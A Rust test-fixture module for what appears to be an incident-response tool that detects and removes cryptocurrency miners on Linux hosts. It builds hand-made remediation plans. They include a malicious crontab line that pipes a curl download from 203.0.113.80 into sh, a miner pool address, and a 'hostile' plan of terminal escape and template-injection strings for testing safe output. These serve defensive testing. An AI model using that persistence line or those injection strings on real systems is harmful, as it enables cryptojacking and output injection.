//! The incident that the words are tried on: plans made by hand, and runs told event by event.

mod acts;
mod host;
mod night;

use std::collections::BTreeMap;
use std::io;
use std::sync::{Arc, Mutex};

use deminer_engine::approval::Requirement;
use deminer_engine::ask::{Answered, ReplyMeans};
use deminer_engine::environment::EnvironmentRef;
use deminer_engine::event::Variables;
use deminer_engine::finding::{Artifact, Bearing, Finding, HostVerdict};
use deminer_engine::plan::{End, HostPlan, Left, Origin, Plan, PlaybookRef, ResourceRef, VALID_FOR_MS, WhyLeft};
use deminer_engine::policy::Limits;
use deminer_worker::action::{Act, Effect, FileTarget, LineTarget, ProcessTarget, Role};
use deminer_worker::order::{Birth, Override};
use deminer_worker::query::{FileId, GapReason, HostIdentity};
use deminer_worker::text::{Digest, HostBytes, HostPath, Wide};

use serde_json::json;

use self::host::Host;
pub(crate) use self::night::Night;
use super::paste::Paste;
use super::plan::About;

/// 2026-11-14 02:41:09 UTC.
pub(crate) const AT: u64 = 1_794_624_069_000;

const MINUTE: u64 = 60_000;

/// What a screen wrote.
#[derive(Clone, Default)]
pub(crate) struct Paper(Arc<Mutex<Vec<u8>>>);

impl Paper {
    pub(crate) fn text(&self) -> String {
        String::from_utf8(self.0.lock().expect("no test panics while it writes").clone()).expect("only text is written")
    }
}

impl io::Write for Paper {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0
            .lock()
            .expect("no test panics while it writes")
            .extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

pub(crate) fn about() -> About<'static> {
    About {
        file: Some("miner.plan"),
        took_ms: Some(11_432),
        now_ms: AT,
        paste: Paste::default(),
        asks: false,
        knows_signers: true,
    }
}

pub(super) fn identity(host: &str) -> HostIdentity {
    HostIdentity {
        machine_id: Some(format!("8f0c-{host}")),
        boot_id: "0a1b2c3d-0000-4000-8000-000000000001".to_owned(),
        hostname: host.into(),
        pid_namespace: Wide(4_026_531_836),
    }
}

pub(super) fn process(pid: u32, role: Role, comm: &str, exe: &str) -> ProcessTarget {
    ProcessTarget {
        boot_id: identity("").boot_id,
        pid,
        start_ticks: Wide(81_200 + u64::from(pid)),
        exe: FileId {
            dev: Wide(23),
            inode: Wide(77),
        },
        exe_path: exe.into(),
        exe_sha256: Digest::of(exe.as_bytes()),
        exe_size: Wide(2_936_012),
        argv_sha256: Digest::of(comm.as_bytes()),
        uid: 1000,
        comm: comm.into(),
        role,
    }
}

pub(super) fn file(path: impl Into<HostPath>, inode: u64, flags: u32) -> FileTarget {
    let path = path.into();
    FileTarget {
        mount: "/".into(),
        id: FileId {
            dev: Wide(2049),
            inode: Wide(inode),
        },
        size: Wide(412),
        ctime_ns: Wide((AT - 171_000_000) * 1_000_000),
        mtime_ns: Wide((AT - 171_000_000) * 1_000_000),
        sha256: Digest::of(path.as_bytes()),
        path,
        mode: 0o600,
        uid: 1000,
        gid: 1000,
        flags: Some(flags),
        links: 1,
        xattrs: Vec::new(),
    }
}

pub(super) fn line(number: u32, text: impl Into<HostBytes>, mark: &str) -> LineTarget {
    LineTarget {
        number,
        line: text.into(),
        mark: mark.into(),
    }
}

/// A statement about a process that only adds weight.
fn weighs(process: &ProcessTarget, signal: &str, points: i32, say: &str) -> Finding {
    let bearing = if points < 0 { Bearing::Benign } else { Bearing::Weighs };
    let artifact = Artifact::Process {
        process: process.clone(),
    };
    Finding::new(artifact, signal, bearing, say)
        .weighs(points)
        .by_rule("rules/linux.yml:58")
        .rests_on(format!("/proc/{}/exe", process.pid), Some(process.exe_sha256))
}

fn condemned(process: &ProcessTarget, points: i32) -> Finding {
    let artifact = Artifact::Process {
        process: process.clone(),
    };
    Finding::new(
        artifact,
        "condemned_miner",
        Bearing::Condemns,
        "judged a miner with {points} points of {needed}",
    )
    .field("points", points)
    .field("needed", 20)
    .rests_on(format!("/proc/{}/exe", process.pid), Some(process.exe_sha256))
}

fn of_file(file: &FileTarget, signal: &str, say: &str) -> Finding {
    Finding::new(Artifact::File { file: file.clone() }, signal, Bearing::Condemns, say)
        .rests_on(&file.path, Some(file.sha256))
}

fn of_line(file: &FileTarget, line: &LineTarget) -> Finding {
    let artifact = Artifact::Line {
        file: file.clone(),
        line: line.clone(),
    };
    Finding::new(
        artifact,
        "starts_condemned",
        Bearing::Condemns,
        "the line starts {served}, which is condemned, and pipes a download into a shell",
    )
    .field("served", &line.mark)
    .by_rule("rules/linux.yml:61")
    .rests_on(&file.path, Some(file.sha256))
}

/// A miner in shared memory, guarded by a pair.
fn guarded(name: &str) -> Host {
    let miner = process(4242, Role::Miner, "kworker/u8:3", "/dev/shm/.k/kw");
    let guardians = [4237, 4239].map(|pid| process(pid, Role::Guardian, "watch", "/var/tmp/. /watch"));
    let watch = file("/var/tmp/. /watch", 12, 0);
    let config = file("/var/tmp/. /config.json", 13, 0);
    let options = weighs(
        &miner,
        "xmrig_options",
        25,
        "{count} XMRig options in its arguments: {value}",
    )
    .field("count", 6)
    .field("value", "--donate-level -k -o -p -u");
    let mut host = Host::new(name, HostVerdict::Infected)
        .rests(options)
        .rests(
            weighs(
                &miner,
                "kernel_name",
                25,
                "named like a kernel thread, `{value}`, but it runs a file: {exe}",
            )
            .field("value", "kworker/u8:3")
            .field("exe", "/dev/shm/.k/kw"),
        )
        .rests(
            weighs(
                &miner,
                "deleted_executable",
                10,
                "the file that it runs was deleted: {value}",
            )
            .field("value", "/dev/shm/.k/kw"),
        )
        .rests(weighs(&miner, "unowned", 4, "no package knows {value}").field("value", "/dev/shm/.k/kw"))
        .rests(weighs(&miner, "busy", 4, "CPU {value} % of one CPU").field("value", 387))
        .act(1, Act::Kill { process: miner.clone() }, condemned(&miner, 88))
        .shows(
            &miner,
            vec!["kworker/u8:3".into(), "-o".into(), "203.0.113.80:3333".into()],
        )
        .birth(Birth::executable(&guardians[0]))
        .gap("directory", "/srv/share", GapReason::Unsupported)
        .gap("process", "9120", GapReason::Gone)
        .leave(
            Left::Directory {
                path: "/var/tmp/. ".into(),
            },
            WhyLeft::DirectoryFlags { flags: 0x10 },
        );
    for guardian in guardians {
        let finding = Finding::new(
            Artifact::Process {
                process: guardian.clone(),
            },
            "guards_condemned",
            Bearing::Condemns,
            "parent or companion of a condemned process; no package knows {path}, in a remarkable place or beside it",
        )
        .field("path", &guardian.exe_path);
        host = host.act(1, Act::Kill { process: guardian }, finding);
    }
    host.act(
        1,
        Act::RemoveFile { file: watch.clone() },
        of_file(&watch, "runs_as_condemned", "the file that condemned pid {pid} runs").field("pid", 4237),
    )
    .act(
        1,
        Act::RemoveFile { file: config.clone() },
        of_file(
            &config,
            "miner_configuration",
            "its text is a miner's configuration: pools with a user",
        ),
    )
}

/// A miner that a crontab starts, its file immutable.
fn scheduled(name: &str) -> Host {
    let miner = process(1893, Role::Miner, "sysd", "/usr/local/lib/.sysd/sysd");
    let program = file("/usr/local/lib/.sysd/sysd", 88, 0x10);
    let crontab = file("/var/spool/cron/crontabs/deploy", 131_077, 0);
    let line = line(
        3,
        "*/5 * * * * /usr/local/lib/.sysd/sysd -q||curl -fsS 203.0.113.80/i|sh",
        "/usr/local/lib/.sysd/sysd",
    );
    let because = of_line(&crontab, &line);
    let other = Act::Kill {
        process: process(655, Role::Companion, "cron", "/usr/sbin/cron"),
    };
    let left = Left::Act {
        action: other.id(name),
        component: 1,
        act: other,
    };
    let rule = "package cron owns it, its digest matches".to_owned();
    Host::new(name, HostVerdict::Infected)
        .rests(
            weighs(
                &miner,
                "monero_wallet",
                25,
                "a valid Monero address in its arguments: `{value}`",
            )
            .field("value", "888tNkZr"),
        )
        .rests(weighs(&miner, "busy", 4, "CPU {value} % of one CPU").field("value", 196))
        .act(1, Act::Kill { process: miner.clone() }, condemned(&miner, 70))
        .act(
            1,
            Act::EditLines {
                file: crontab,
                remove: vec![line],
                syntax: None,
            },
            because,
        )
        .act(
            1,
            Act::RemoveFile { file: program.clone() },
            of_file(&program, "runs_as_condemned", "the file that condemned pid {pid} runs").field("pid", 1893),
        )
        .around(
            "/var/spool/cron/crontabs/deploy",
            5,
            &[
                (1, Some("MAILTO=deploy")),
                (2, Some("0 3 * * * /usr/local/bin/backup")),
                (4, None),
                (5, Some("@daily /usr/bin/certbot renew -q")),
            ],
        )
        .leave(left, WhyLeft::Protected { rule })
        .state(
            Finding::new(
                Artifact::File {
                    file: file("/opt/odd", 9, 0),
                },
                "same_content",
                Bearing::Review,
                "its content is that of a condemned executable, sha256 {sha256}, but it lies where others keep theirs",
            )
            .field("sha256", "3f1a9c07e2b4d815")
            .rests_on("/opt/odd", None),
        )
}

fn busy_and_clean(name: &str) -> Host {
    let database = process(812, Role::Miner, "postgres", "/usr/lib/postgresql/16/bin/postgres");
    Host::new(name, HostVerdict::Clean)
        .end(End::Stopped {
            reason: "no miner here; other findings have their own procedure".to_owned(),
            hand_over: Vec::new(),
        })
        .state(
            weighs(
                &database,
                "package_file",
                -25,
                "file of package {package}, digest matches",
            )
            .field("package", "postgresql-16"),
        )
        .state(
            weighs(
                &database,
                "compute_profile",
                -15,
                "`{value}` is a program that works hard by trade",
            )
            .field("value", "postgres"),
        )
        .state(weighs(&database, "busy", 4, "CPU {value} % of one CPU").field("value", 312))
}

fn suspected(name: &str) -> Host {
    let suspect = process(7, Role::Companion, "job", "/home/ci/.cache/job");
    let judged = Finding::new(
        Artifact::Process {
            process: suspect.clone(),
        },
        "suspect_process",
        Bearing::Review,
        "judged suspect with {points} points, {needed} needed; a person decides",
    );
    Host::new(name, HostVerdict::Suspected)
        .end(End::Stopped {
            reason: "suspected, or not enough was seen; a person looks".to_owned(),
            hand_over: vec!["intrusion without mining".to_owned()],
        })
        .rests(weighs(&suspect, "unowned", 4, "no package knows {value}").field("value", "/home/ci/.cache/job"))
        .rests(weighs(&suspect, "busy", 4, "CPU {value} % of one CPU").field("value", 99))
        .state(judged.field("points", 8).field("needed", 20))
}

fn origin() -> Origin {
    let rules = ResourceRef {
        sha256: Digest::of(b"rules"),
        text: "rules".into(),
    };
    Origin {
        playbook: PlaybookRef {
            name: "linux-miner".to_owned(),
            version: 1,
            sha256: Digest::of(b"playbook"),
            text: "playbook".into(),
        },
        resources: BTreeMap::from([("rules/linux.yml".to_owned(), rules)]),
        modules: BTreeMap::from([("process.kill".to_owned(), "1".to_owned())]),
        vars: BTreeMap::from([("watch".to_owned(), "10m".into())]),
        secrets: Default::default(),
        sources: Default::default(),
        environment: None,
        limits: Default::default(),
        created_at_ms: AT,
        valid_for_ms: VALID_FOR_MS,
        approvals: None,
    }
}

fn plan_of(hosts: Vec<Host>) -> Plan {
    plan_from(origin(), hosts)
}

fn plan_from(origin: Origin, hosts: Vec<Host>) -> Plan {
    Plan::new(origin, hosts.into_iter().map(Host::plan).collect()).expect("these hosts make a plan")
}

/// A plan of these hosts.
pub(crate) fn with_hosts(hosts: Vec<HostPlan>) -> Plan {
    Plan::new(origin(), hosts).expect("these hosts make a plan")
}

/// Two infected hosts and a busy, clean one.
pub(crate) fn plan() -> Plan {
    plan_of(vec![guarded("web-1"), scheduled("web-2"), busy_and_clean("db-1")])
}

/// A host on which every kind of act is proposed.
pub(crate) fn acts_plan() -> Plan {
    plan_of(vec![acts::entrenched("app-1")])
}

/// What a playbook was told of an incident, as its variables.
pub(crate) fn incident() -> Variables {
    let vars = json!({
        "watch": "10m",
        "source": "intrusion detection",
        "indicators": ["203.0.113.80:3333", "pool.example"],
        "appeared": "2026-11-12T03:00:00Z",
        "found": "2026-11-14T01:50:00Z",
        "done_already": "cable of web-1 pulled at 02:05Z",
        "topology": "web-1 and web-2 behind fw-1",
    });
    serde_json::from_value(vars).expect("variables")
}

/// A question and its answer.
pub(crate) fn answer() -> Answered {
    Answered {
        step: "cable".to_owned(),
        question: "Pull the network cable of this host".to_owned(),
        answer: "done".to_owned(),
        by: "uid 1000".to_owned(),
        means: ReplyMeans::Terminal,
        at_ms: Wide(AT),
    }
}

/// Two hosts of which something was told.
pub(crate) fn told_plan() -> Plan {
    let origin = Origin {
        vars: incident(),
        ..origin()
    };
    let asked = Host {
        answers: vec![answer()],
        ..scheduled("web-2")
    };
    plan_from(origin, vec![asked, suspected("ci-1")])
}

/// A plan made under an environment that bounds all that one can, with values of its own, and of one host too.
pub(crate) fn bound_plan() -> Plan {
    let text = "playbook: linux-miner\nversion: 1\nvars:\n  watch: {type: duration, default: 10m}\n  pools: {type: \"list<string>\", \
                default: []}\n  sample: {type: duration, default: 5s}\n  ticket: {type: string}\n  token: {type: secret}\nphases:\n  \
                gather:\n    - {id: cron, use: cron.list}\n";
    let environment = "environment: prod\nvars: {ticket: \"SEC-1\"}\n# \u{202e}</script>\n";
    let window = |text: &str| text.parse().expect("a window");
    let origin = Origin {
        playbook: PlaybookRef {
            name: "linux-miner".to_owned(),
            version: 1,
            sha256: Digest::of(text.as_bytes()),
            text: text.into(),
        },
        vars: serde_json::from_value(json!({
            "watch": "20m",
            "pools": ["pool.example:3333", "\u{1b}[2J"],
            "sample": "5s",
            "ticket": "SEC-1",
            "token": "***",
        }))
        .expect("variables"),
        secrets: ["token".to_owned()].into(),
        sources: BTreeMap::from([("token".to_owned(), json!({"file": "/etc/keys/token"}))]),
        environment: Some(EnvironmentRef {
            name: "prod".to_owned(),
            sha256: Digest::of(environment.as_bytes()),
            text: environment.into(),
            disabled: BTreeMap::from([("delete".to_owned(), "they stay\u{1b}[2J".to_owned())]),
        }),
        limits: Limits {
            effects: Some(Effect::Destroy),
            windows: vec![
                vec![window("mon-fri 22:00-05:00 +01:00")],
                vec![window("daily 00:00-06:00 UTC")],
            ],
            max_actions: Some(40),
        },
        approvals: Some(Requirement {
            needed: serde_json::from_value(json!({"contain": 1, "destroy": 2})).expect("it is written so"),
            unsigned: false,
            signers: Some(Digest::of(b"a list")),
        }),
        ..origin()
    };
    let mut hosts: Vec<HostPlan> = [guarded("web-1"), scheduled("web-2"), busy_and_clean("db-1")]
        .into_iter()
        .map(Host::plan)
        .collect();
    for host in &mut hosts[..2] {
        host.vars = BTreeMap::from([("watch".to_owned(), "1h".into())]);
        host.orders.protect = vec!["/srv/shop".into()];
    }
    let action = hosts[0].orders.actions.iter().find(|action| action.act.is_change());
    let over = Override {
        rule: "a path of the site".to_owned(),
        because: "it came with the intruder\u{1b}[2J".to_owned(),
    };
    hosts[0].orders.overrides = BTreeMap::from([(action.expect("a change").id, over)]);
    Plan::new(origin, hosts).expect("these hosts make a plan")
}

/// Three equal hosts and one with so many targets that it needs a yes of its own.
pub(crate) fn fleet_plan() -> Plan {
    let mut many = guarded("web-9");
    for number in 0..24 {
        let file = file(format!("/var/tmp/.x/{number:02}").as_str(), 1000 + number, 0);
        let because = of_file(
            &file,
            "same_content",
            "its content is that of a condemned executable, sha256 {sha256}",
        )
        .field("sha256", "3f1a9c07e2b4d815");
        many = many.act(2, Act::RemoveFile { file }, because);
    }
    plan_of(vec![
        guarded("web-1"),
        guarded("web-2"),
        guarded("web-3"),
        many,
        busy_and_clean("db-1"),
    ])
}

/// What a playbook made that only looks.
pub(crate) fn triage_plan() -> Plan {
    let text = "playbook: triage\nversion: 1\nphases:\n  gather:\n    - {id: facts, use: host.facts}\n";
    let mut origin = origin();
    origin.playbook = PlaybookRef {
        name: "triage".to_owned(),
        version: 1,
        sha256: Digest::of(text.as_bytes()),
        text: text.into(),
    };
    let miner = process(4242, Role::Miner, "kworker/u8:3", "/dev/shm/.k/kw");
    let infected = |name: &str| Host::new(name, HostVerdict::Infected).rests(condemned(&miner, 88));
    plan_from(
        origin,
        vec![
            infected("web-1"),
            infected("web-2"),
            suspected("ci-1"),
            busy_and_clean("db-1"),
        ],
    )
}

/// Two hosts on which the same kind of act has another object.
pub(crate) fn blocking_plan() -> Plan {
    let host = |name: &str, address: &str| {
        let miner = process(4242, Role::Miner, "kworker/u8:3", "/dev/shm/.k/kw");
        let block = Act::BlockAddress {
            address: address.to_owned(),
            for_s: 86_400,
        };
        Host::new(name, HostVerdict::Infected).act(1, block, condemned(&miner, 88))
    };
    plan_of(vec![host("web-1", "198.51.100.23"), host("web-2", "203.0.113.9")])
}

/// Nothing to do, for every reason that there is.
pub(crate) fn idle_plan() -> Plan {
    plan_of(vec![
        busy_and_clean("db-1"),
        suspected("ci-1"),
        Host::new("nfs-1", HostVerdict::CannotSay).gap("directory", "/proc", GapReason::Denied),
        Host {
            verdict: None,
            ..Host::new("old-1", HostVerdict::Clean).end(End::Failed {
                place: "gather.sockets".to_owned(),
                why: "ask the kernel for sockets: not supported here: no NETLINK_SOCK_DIAG".to_owned(),
            })
        },
        Host {
            verdict: None,
            ..Host::new("new-1", HostVerdict::Clean)
        },
    ])
}

/// Nothing to do, and all are clean.
pub(crate) fn clean_plan() -> Plan {
    plan_of(vec![busy_and_clean("db-1"), Host::new("db-2", HostVerdict::Clean)])
}

/// All that an intruder can write into a plan.
pub(crate) fn hostile_plan() -> Plan {
    let comm = "a`b\x1b]0;x\x07{{ 7*7 }}\n";
    let miner = process(66, Role::Miner, comm, "/tmp/\x1b[2J \u{202e}{points}\n");
    let crontab = file(HostPath::new(&b"/var/spool/cron/\xff\n\x1b[31m"[..]), 5, 0);
    let lines = vec![
        line(1, "{{ 7*7 }} {served}\x1b[2J\u{202e}", "/tmp/x"),
        line(2, HostBytes::new(vec![b'A'; 128 << 10]), "/tmp/x"),
        line(3, HostBytes::new(&b"\xff\xfe\r\ttwo\0"[..]), "/tmp/x"),
    ];
    let because = of_line(&crontab, &lines[0]);
    let host = Host::new("web-1", HostVerdict::Infected)
        .act(1, Act::Kill { process: miner.clone() }, condemned(&miner, 50))
        .act(
            1,
            Act::EditLines {
                file: crontab,
                remove: lines,
                syntax: None,
            },
            because,
        )
        .state(
            weighs(&miner, "xmrig_options", 25, "options: {value}")
                .field("value", HostBytes::new(vec![b'\n'; 128 << 10])),
        )
        .shows(
            &miner,
            vec![HostBytes::new(vec![0xff; 300]), "{{ 7*7 }}".into(), "a\nb".into()],
        )
        .gap("file", "/tmp/\x1b[2J\n", GapReason::Denied);
    plan_of(vec![host])
}
